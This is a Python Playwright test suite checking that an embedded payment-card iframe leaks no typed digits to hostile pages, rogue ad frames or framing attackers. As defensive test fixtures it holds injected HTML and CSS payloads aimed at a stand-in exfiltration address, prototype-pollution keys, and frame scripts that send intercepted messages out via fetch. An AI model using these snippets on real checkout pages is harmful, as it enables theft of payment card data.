"""What a hostile page can get out of the card frame: nothing that was typed."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlencode, urlsplit

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import Merchant
from tests.browser.shop import Shop
from tests.browser.visit import AMEX, FRAME, Visit

CODE = "7391"
TOGETHER = 6
"""So many digits of the number in a row are no chance, and more than the last four."""

FAKES: list[Any] = [
    None,
    "mount",
    {},
    {"type": "value"},
    {"type": "__proto__"},
    {"type": "constructor"},
    {"type": "toString"},
    {"type": "change"},
    {"type": "create_token"},
    {"type": "create_token", "id": "x", "name": {"$ref": "number"}},
    {"type": "create_token", "id": 7, "key": "sk_test_x", "url": "STRANGER"},
    {"type": "mount", "labels": {"number_invalid": "<img src=STRANGER>"}},
    {"type": "mount", "labels": {"title": "${number}", "expiry_placeholder": "x"}},
    {"type": "mount", "style": {"fontFamily": "url(STRANGER)", "color": "var(--x)"}},
    {"type": "mount", "style": {"__proto__": {"x": "red"}, "constructor": "red"}},
    {"type": "mount", "style": {"backgroundColor": "url(STRANGER)", "borderColor": "red;x:url()"}},
    {"type": "mount", "style": "url(STRANGER)", "labels": [1], "locale": {}},
    {"type": "focus"},
]


def pieces(number: str) -> Iterator[str]:
    for start in range(len(number) - TOGETHER + 1):
        yield number[start : start + TOGETHER]


def leaks(text: str, number: str = AMEX, code: str = CODE) -> list[str]:
    """What of the card is in a text, also if it is grouped."""
    close = text.replace(" ", "")
    return [piece for piece in (*pieces(number), code) if piece in close]


def test_the_test_would_see_a_leak() -> None:
    assert leaks(f"… {AMEX} …") and leaks("3782 822463 10005") and leaks('{"cvc":"7391"}')
    assert not leaks('{"last_four":"0005","exp_year":2031}')


def test_no_digit_reaches_the_page_and_nothing_reaches_anybody_else(visit: Visit) -> None:
    """Given a page that keeps every message, event, call, entry and change that it can see."""
    # When: a card is typed, mistyped, left, refused, and made a token of
    visit.go().start({"autofocus": True})
    visit.type(AMEX[:-1] + "6", "1231", CODE)
    visit.page.locator("#email").focus()
    visit.pay()
    visit.field("number").fill(AMEX)
    token = visit.pay({"name": "Ada"})["token"]
    # Then: the page has what it may have
    assert token["last_four"] == "0005"
    everything = visit.everything()
    assert leaks(everything) == []
    assert leaks(json.dumps(visit.heard())) == []
    heard = {where for where, _ in visit.heard()}
    assert {"message", "port", "sent", "dom", "focusin"} <= heard  # it did listen
    # And: the card went to one address, once, and nobody else was asked for anything
    with_card = [(method, url) for method, url, body in visit.requests if leaks(url + body)]
    assert with_card == [("POST", f"{visit.tokens_url}/v1/tokens")]
    hosts = {urlsplit(url).netloc for _, url, _ in visit.requests}
    assert hosts == {urlsplit(visit.shop.origin).netloc, urlsplit(visit.tokens_url).netloc}


def test_messages_are_made_of_known_words_alone(visit: Visit) -> None:
    visit.go().start().type(AMEX, "1231", CODE)
    visit.pay()
    said = [what for where, what in visit.heard() if where == "port"]
    assert {one["type"] for one in said} == {"height", "ready", "change", "token"}
    for one in said:
        fields = {"height": {"px"}, "ready": set(), "token": {"id", "token"}}
        change = {"complete", "empty", "brand", "errors"}
        assert set(one) - {"type"} == fields.get(one["type"], change)


def test_a_page_cannot_read_the_frame(visit: Visit) -> None:
    visit.go().start().type(AMEX, "1231", CODE)
    tried = visit.page.evaluate(
        """() => {
            const frame = document.querySelector("iframe");
            const tries = [
                () => frame.contentDocument?.body.innerHTML,
                () => frame.contentWindow.document.body.innerHTML,
                () => frame.contentWindow.number.value,
                () => frames[0].document.querySelector("input").value,
                () => frames["farthing-card-fields"].location.href,
                () => frame.contentWindow.eval("number.value"),
                () => frame.getSVGDocument()?.textContent,
                () => { frame.contentWindow.onkeydown = keep; return undefined; },
            ];
            const ends = (one) => { try { return one() ?? null; } catch (e) { return e.name; } };
            return tries.map(ends);
        }"""
    )
    assert set(tried) <= {None, "SecurityError", "TypeError"}
    assert visit.pay()["token"]["last_four"] == "0005"


@pytest.mark.parametrize("fake", FAKES, ids=lambda fake: json.dumps(fake)[:60])
def test_whatever_a_page_says_it_gets_no_digit(visit: Visit, stranger: Shop, fake: Any) -> None:
    """Given a page that holds the port itself."""
    address = f"{stranger.origin}/exfiltrated"
    fake = json.loads(json.dumps(fake).replace("STRANGER", address))
    visit.go().start().type(AMEX, "1231", CODE)
    # When
    visit.page.evaluate("(fake) => { for (const port of ports) port.postMessage(fake) }", fake)
    visit.page.evaluate(
        "(fake) => document.querySelector('iframe').contentWindow.postMessage(fake, '*')", fake
    )
    visit.page.wait_for_timeout(300)
    # Then
    assert leaks(visit.everything()) == []
    assert "/exfiltrated" not in stranger.asked
    assert visit.pay()["token"]["last_four"] == "0005"


def test_a_second_port_is_not_taken(visit: Visit) -> None:
    visit.go().start().type(AMEX, "1231", CODE)
    answers = visit.page.evaluate(
        """async () => {
            const channel = new MessageChannel();
            const said = [];
            channel.port1.onmessage = ({ data }) => said.push(data);
            const frame = document.querySelector("iframe");
            frame.contentWindow.postMessage({ farthing: "port" }, "*", [channel.port2]);
            channel.port1.postMessage({ type: "mount" });
            channel.port1.postMessage({ type: "create_token", id: 1 });
            await new Promise((done) => setTimeout(done, 500));
            return said;
        }"""
    )
    assert answers == []


def test_another_frame_in_the_page_cannot_pass_for_the_card_frame(
    visit: Visit, stranger: Shop
) -> None:
    # Given: an advertisement that says hello, and that listens for a port
    listens = (
        "addEventListener('message', (e) => parent.postMessage(['port', e.ports.length], '*'))"
    )
    hello = "setInterval(() => parent.postMessage({ farthing: 'hello' }, '*'), 20)"
    address = stranger.put(f"<script>{listens};{hello}</script>", "/ad")
    visit.go()
    visit.page.evaluate(
        """(address) => new Promise((done) => {
            const ad = document.createElement("iframe");
            ad.src = address;
            ad.onload = done;
            document.body.append(ad);
        })""",
        address,
    )
    # When
    visit.start()
    visit.page.evaluate("postMessage({ farthing: 'hello' }, '*')")  # and so does the page itself
    visit.type(AMEX, "1231", CODE)
    # Then
    assert visit.pay()["token"]["last_four"] == "0005"
    assert len(visit.told("ready")) == 1
    messages = [what["data"] for where, what in visit.heard() if where == "message"]
    assert {"farthing": "hello"} in messages
    assert not [data for data in messages if isinstance(data, list) and data[0] == "port"]
    assert leaks(visit.everything()) == []


def test_another_frame_in_the_page_cannot_be_the_card_frames_page(
    visit: Visit, stranger: Shop
) -> None:
    # Given: an advertisement that offers a port to each frame beside it, all the time
    offer = """
        const tell = ({ data }) => fetch("/heard?" + JSON.stringify(data));
        setInterval(() => {
            for (let n = 0; n < parent.frames.length; n += 1) {
                const { port1, port2 } = new MessageChannel();
                port1.onmessage = tell;
                port1.postMessage({ type: "mount" });
                port1.postMessage({ type: "create_token", id: 1 });
                try { parent.frames[n].postMessage({ farthing: "port" }, "*", [port2]); } catch {}
            }
        }, 1);"""
    address = stranger.put(f"<script>{offer}</script>", "/ad")
    visit.go()
    visit.page.evaluate(
        """(src) => new Promise((onload) => {
            document.body.append(Object.assign(document.createElement("iframe"), { src, onload }));
        })""",
        address,
    )
    # When
    visit.start().type(AMEX, "1231", CODE)
    # Then
    assert visit.pay()["token"]["last_four"] == "0005"
    assert [path for path in stranger.asked if path.startswith("/heard")] == []


def test_a_frame_that_was_led_elsewhere_is_not_spoken_to(visit: Visit, stranger: Shop) -> None:
    # Given: a page that says hello in the place of the card frame
    reports = "addEventListener('message', (e) => fetch('/heard?' + e.ports.length))"
    hello = "parent.postMessage({ farthing: 'hello' }, '*')"
    address = stranger.put(f"<script>{reports};{hello}</script>", "/false")
    visit.go().start()
    # When
    visit.page.evaluate("(address) => { frames[0].location = address }", address)
    visit.page.wait_for_timeout(500)
    # Then
    assert "/false" in stranger.asked
    assert [path for path in stranger.asked if path.startswith("/heard")] == []
    said = [what["type"] for where, what in visit.heard() if where == "sent" and "type" in what]
    assert said == ["mount"]


def test_two_cards_in_a_page_do_not_mix(visit: Visit) -> None:
    visit.go().start()
    visit.page.evaluate(
        """(key) => {
            window.more = document.createElement("div");
            document.body.append(more);
            window.other = Farthing(key).cardFields(more);
            return new Promise((ready) => other.on("ready", ready));
        }""",
        visit.key,
    )
    visit.page.wait_for_timeout(200)
    assert len(visit.told("ready")) == 1
    first, second = visit.page.frame_locator(FRAME).nth(0), visit.page.frame_locator(FRAME).nth(1)
    for frame, number in ((first, "4242424242424242"), (second, AMEX)):
        frame.locator("[name=number]").fill(number)
        frame.locator("[name=expiry]").fill("12/31")
        frame.locator("[name=cvc]").fill(CODE)
    one, other = visit.page.evaluate("Promise.all([card.createToken(), other.createToken()])")
    assert (one["last_four"], other["last_four"]) == ("4242", "0005")


def test_a_page_that_is_not_registered_cannot_embed_the_frame(
    visit: Visit, stranger: Shop, page: Page
) -> None:
    # Given
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    # When
    page.goto(stranger.put(visit.html()))
    page.evaluate("(key) => start(key)", visit.key)
    page.wait_for_function("told.some(([name]) => name === 'error')")
    # Then
    [error] = visit.told("error")
    assert error["code"] == "frame_unavailable"
    assert stranger.origin in error["message"]
    assert any("frame-ancestors" in text for text in said), said
    assert [where for where, _ in visit.heard() if where == "message"] == []
    assert visit.pay()["refused"]["code"] == "frame_unavailable"


def test_nor_can_one_that_says_it_is_another(visit: Visit, stranger: Shop, page: Page) -> None:
    page.goto(stranger.put("<body></body>"))
    body = embedded(page, visit, origin=visit.shop.origin)
    assert body is None


def test_a_registered_page_inside_one_that_is_not_cannot_either(
    visit: Visit, stranger: Shop, page: Page
) -> None:
    """Given somebody who frames the whole shop, to lay something over it."""
    shop = visit.shop.put(visit.html())
    page.goto(stranger.put(f'<iframe name="shop" src="{shop}"></iframe>'))
    inner = page.frame("shop")
    assert inner is not None
    inner.evaluate("(key) => start(key)", visit.key)
    inner.wait_for_function("told.some(([name]) => name === 'error')")
    assert inner.evaluate("told")[0][1]["code"] == "frame_unavailable"


def test_who_gives_another_origin_than_its_own_is_not_spoken_to(visit: Visit, page: Page) -> None:
    """Given a registered page, and another one's name in the frame's address."""
    visit.go()
    body = embedded(page, visit, origin="http://127.0.0.1:1")
    assert body is not None  # it may embed the frame
    expect(page.frame_locator(FRAME).locator("form")).to_be_hidden()
    assert [where for where, _ in visit.heard() if where == "message"] == []


@pytest.mark.parametrize("key", ["pk_test_" + "x" * 52, "sk_test_" + "x" * 52, "nonsense", ""])
def test_without_a_merchants_key_there_is_no_frame(visit: Visit, page: Page, key: str) -> None:
    visit.go()
    assert embedded(page, visit, origin=visit.shop.origin, key=key) is None


def test_the_hosted_checkout_page_may_embed_for_its_session_and_a_shop_may_not(
    visit: Visit, merchant: Merchant, page: Page
) -> None:
    # Given
    session = "ck_test_" + "x" * 52
    visit.go()
    assert embedded(page, visit, origin=visit.shop.origin, key=session) is None
    # When: some address of the API's origin, which is where the hosted page is
    api_url = merchant.live.dev["api_url"]
    page.goto(f"{api_url}/v1/nothing")
    # Then
    assert embedded(page, visit, origin=api_url, key=session) is not None


def test_a_frame_by_itself_is_no_form(visit: Visit, page: Page) -> None:
    page.goto(f"{visit.tokens_url}/fields/v1/frame?{urlencode({'key': visit.key})}")
    expect(page.locator("form")).to_be_hidden()
    page.goto(f"{visit.tokens_url}/fields/v1/frame?key=pk_test_nobody")
    expect(page.get_by_text("Nobody may embed them")).to_be_visible()


def embedded(page: Page, visit: Visit, *, origin: str, key: str | None = None) -> str | None:
    """The frame's HTML if the page may embed it, None if the browser refuses."""
    query = urlencode({"key": visit.key if key is None else key, "origin": origin})
    page.evaluate(
        """(address) => new Promise((done) => {
            const frame = document.createElement("iframe");
            frame.name = "farthing-card-fields";
            frame.onload = frame.onerror = done;
            frame.src = address;
            (document.body ?? document.documentElement).append(frame);
        })""",
        f"{visit.tokens_url}/fields/v1/frame?{query}",
    )
    page.wait_for_timeout(300)
    frame = page.frame("farthing-card-fields")
    if frame is None or frame.url.startswith("chrome-error:"):
        return None
    html: str = frame.content()
    return html if "cc-number" in html else None
